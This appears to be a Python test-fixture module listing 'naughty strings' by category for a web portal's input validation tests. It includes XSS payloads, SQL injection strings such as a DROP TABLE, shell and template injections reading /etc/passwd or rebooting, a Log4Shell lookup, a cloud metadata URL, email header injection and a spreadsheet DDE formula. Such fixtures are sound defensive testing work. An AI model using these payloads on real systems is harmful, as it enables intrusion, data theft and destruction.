"""Strings that break things, by category, written for this portal (SAFETY section 3).

For any field: none may cause an error 500, come back unescaped, or be stored where the field's rule
refuses it. ``NAUGHTY`` is all of them; the categories serve tests that expect something of their own.
"""

from __future__ import annotations

XSS = (
    "<script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert&#40;1)</script>",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)//",
    '<a href="javascript:alert(1)">Lien</a>',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<!--<script>alert(1)//-->",
    "<style>@import'//example.org/x.css'</style>",
    '" autofocus onfocus=alert(1) x="',
    "' onmouseover='alert(1)",
    "<b>Jean</b>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#x3C;script&#x3E;",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '\\";alert(1);//',
    "${alert(1)}",
    "\u2028alert(1)\u2029",
    "＜script＞alert(1)＜/script＞",
    "data:text/html,<script>alert(1)</script>",
)

SQL = (
    "' OR '1'='1",
    "' OR 1=1 --",
    "'; DROP TABLE accounts_user; --",
    "1; SELECT pg_sleep(10)",
    "' UNION SELECT NULL, version() --",
    "\\' OR 1=1 --",
    "admin'--",
    '" OR ""="',
    "%' AND '%'='",
    "_%_%_",
    "'||(SELECT current_user)||'",
    "$$; SELECT 1; $$",
    "E'\\x27'",
)

TEMPLATES_AND_SHELLS = (
    "{{ 7*7 }}",
    "{% debug %}",
    "{{ settings.SECRET_KEY }}",
    "%(password)s",
    "%s%s%s%n",
    "{0.__class__.__mro__}",
    "{user.password}",
    "#{7*7}",
    "<%= 7*7 %>",
    "$(reboot)",
    "`id`",
    "| cat /etc/passwd",
    "; ls -la",
    "&& true",
    "() { :; }; echo vulnerable",
    "${jndi:ldap://example.org/a}",
)

PATHS = (
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/passwd%00.png",
    "%2e%2e%2f%2e%2e%2f",
    "file:///etc/passwd",
    "//example.org/",
    "http://169.254.169.254/latest/meta-data/",
    "CON",
    "NUL.txt",
)

HEADERS = (
    "Jean\r\nBcc: victime@example.org",
    "Jean\nBcc: victime@example.org",
    "Jean\rBcc: victime@example.org",
    "Jean%0d%0aBcc:victime@example.org",
    "Jean\u2028Bcc: victime@example.org",
    "Jean\x0bBcc: victime@example.org",
    "Jean\x85Bcc: victime@example.org",
    "jean@example.org\r\n.\r\nMAIL FROM:<x@example.org>",
    "jean@example.org,victime@example.org",
    "jean@example.org;victime@example.org",
    '"Jean" <jean@example.org>',
    "Set-Cookie: sid=1",
)

LOGS = ("\x1b[31mrouge\x1b[0m", "\x1b]0;titre\x07", "ligne 1\nINFO utilisateur=admin", "\x08\x08\x08effacé")

CONTROLS = (
    "\x00",
    "Jean\x00Dupont",
    "\x01\x02\x03",
    "Jean\x07",
    "Jean\x1fDupont",
    "Jean\x7fDupont",
    "Jean\x80Dupont",
    "Jean\x9fDupont",
    "Jean\tDupont",
    "Jean\nDupont",
    "\ufffe",
    "\uffff",
    "\U0010ffff",
    "\ue000 usage privé",
)
SURROGATES = (
    "\ud800",
    "Jean\udfff",
    "\udc80\udcff",
    "\ud83d Jean",
)

INVISIBLE = (
    "Jean\u200bDupont",  # zero-width space
    "Jean\u200cDupont",
    "Jean\u200dDupont",
    "Jean\u2060Dupont",
    "\ufeffJean",  # byte-order mark
    "Jean\u00adDupont",  # soft hyphen
    "Jean\u034fDupont",  # combining grapheme joiner
    "Jean\ufe0f",  # variation selector
    "Jean\U000e0100",
    "\U000e0001\U000e0041",  # tags
    "Jean\u115f",  # Hangul filler
    "Jean\u3164",
    "\u2800",  # empty braille
    "\u180e",
    "Jean\u206a",
)
BIDI = (
    "\u202eerèiP",  # right-to-left override
    "\u202dPierre",
    "\u202aPierre\u202c",
    "\u202bPierre\u202c",
    "\u2066Pierre\u2069",
    "\u2067Pierre\u2069",
    "\u2068Pierre\u2069",
    "\u200fPierre",
    "\u200ePierre",
    "\u061cPierre",
    "Pierre\u202e",
)
BLANK = ("", " ", "\t", "\u00a0", "\u3000", "\u2003\u2009", "\u202f", "   \u00a0  ")

LOOK_ALIKES = (
    "\u0430lbert",  # Cyrillic а
    "\uff41lbert",  # full-width ａ
    "аӏЬегt",
    "αlbert",
    "albеrt",
    "ᴀlbert",
    "𝐚lbert",
    "𝒶𝓁𝒷ℯ𝓇𝓉",
    "𝔞𝔩𝔟𝔢𝔯𝔱",
    "Ⓐlbert",
    "ⓐⓛⓑⓔⓡⓣ",
    "ɑlbert\u02d0",
    "a\u0337lbert",
    "ﬁls",
    "ⅯⅭⅯ",
    "\u212aarim",  # Kelvin sign
    "adm\u0456n",
    "paypa\u04cf",
    "Ꭺlbert",
    "ꓮlbert",
)
OTHER_SCRIPTS = (
    "Иван", "Ольга", "Γιώργος", "محمد", "فاطمة", "משה", "李雷", "山田太郎", "やまだ", "ヤマダ", "김민수",
    "राम", "தமிழ்", "ไทย", "ქეთი", "Հայկ", "ⵎⵓⵃⵎⵎⴷ", "ሀይሌ", "ខ្មែរ",
)  # fmt: skip
EMOJI = (
    "😀",
    "Jean 😀",
    "👨‍👩‍👧‍👦",
    "👍🏽",
    "🇫🇷",
    "❤️",
    "1️⃣",
    "🏴󠁧󠁢󠁥󠁮󠁧󠁿",
    "¯\\_(ツ)_/¯",
    "(╯°□°)╯︵ ┻━┻",
)
ZALGO = (
    "Z\u0351\u036b\u0343\u0352a\u0363\u0369l\u0334g\u0358o",
    "e" + "\u0301" * 3,
    "a" + "\u0300\u0316" * 40,
    "\u0301Jean",
    "J\u20ddean",
    "J\u0488ean",
)
LONG = (
    "a" * 31,
    "a" * 101,
    "a" * 129,
    "a" * 151,
    "a" * 255,
    "a" * 256,
    "é" * 10_000,
    "a" * 100_000,
    "a\u0301\u0316" * 5_000,
    "a" + "\u0301\u0316" * 5_000,  # to put these marks in order costs the square of their number
    "\ufdfa" * 100,  # one character that NFKC makes 18
    "\u0390" * 200,
    "a@" * 5_000,
    ("a" * 63 + ".") * 30,
    " " * 10_000 + "a",
)
NUMBERS = (
    "0", "-1", "1e309", "NaN", "Infinity", "-Infinity", "0x1F", "1_000", "٣", "１２３", "½", "²", "9" * 40,
    "007",
)  # fmt: skip
WORDS = (
    "null", "NULL", "None", "undefined", "true", "false", "nil", "[]", "{}", "()", "\\", "'", "\"", "''", "`",
    "-", ".", "..", "_", "@", "*", "%", "#", "?", "/", "<", ">", "&", "|", "~", "admin", "root",
    "constructor", "__proto__", "toString", "<>", "--", "\\u0000", "%00",
)  # fmt: skip
FORMULAS = (
    "=1+1",
    '=HYPERLINK("http://example.org";"Cliquez")',
    "+1+1",
    "-1+1",
    "@SUM(1;1)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
    "'=1+1",
    ";=1+1",
    '"=1+1"',
)
CASE_TRAPS = ("İstanbul", "ıı", "ß", "ẞ", "ŉ", "ǅ", "ﬀ", "Σς", "ᾳ", "\u1e9e")

NAUGHTY: tuple[str, ...] = tuple(
    dict.fromkeys(
        (
            *XSS, *SQL, *TEMPLATES_AND_SHELLS, *PATHS, *HEADERS, *LOGS, *CONTROLS, *INVISIBLE, *BIDI, *BLANK,
            *LOOK_ALIKES, *OTHER_SCRIPTS, *EMOJI, *ZALGO, *LONG, *NUMBERS, *WORDS, *FORMULAS, *CASE_TRAPS,
        )
    )
)  # fmt: skip
